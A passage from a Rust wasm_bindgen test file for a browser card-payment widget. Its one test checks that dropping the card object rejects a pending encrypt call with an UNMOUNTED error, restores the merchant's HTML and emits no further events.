    m.card.unmount();
}

#[wasm_bindgen_test]
async fn free_cleans_up_like_unmount_and_rejects_a_pending_encrypt() {
    let m = mount_with("<p id='merchant'>Pay by card</p>", JsValue::UNDEFINED)
        .await
        .unwrap();
    type_text(&m.input(0), "4242424242424242");
    let Mounted {
        card, root, log, ..
    } = m;
    let pending = js_sys::Promise::from(JsValue::from(card.encrypt()));
    // What `card.free()` does from JavaScript.
    drop(card);
    let error = JsFuture::from(pending).await.unwrap_err();
    assert_eq!(get_str(&error, "code"), "UNMOUNTED");
    assert_eq!(root.inner_html(), "<p id=\"merchant\">Pay by card</p>");
    let count = log.length();
    JsFuture::from(next_tick()).await.unwrap();
    assert_eq!(log.length(), count, "no event after free");
}
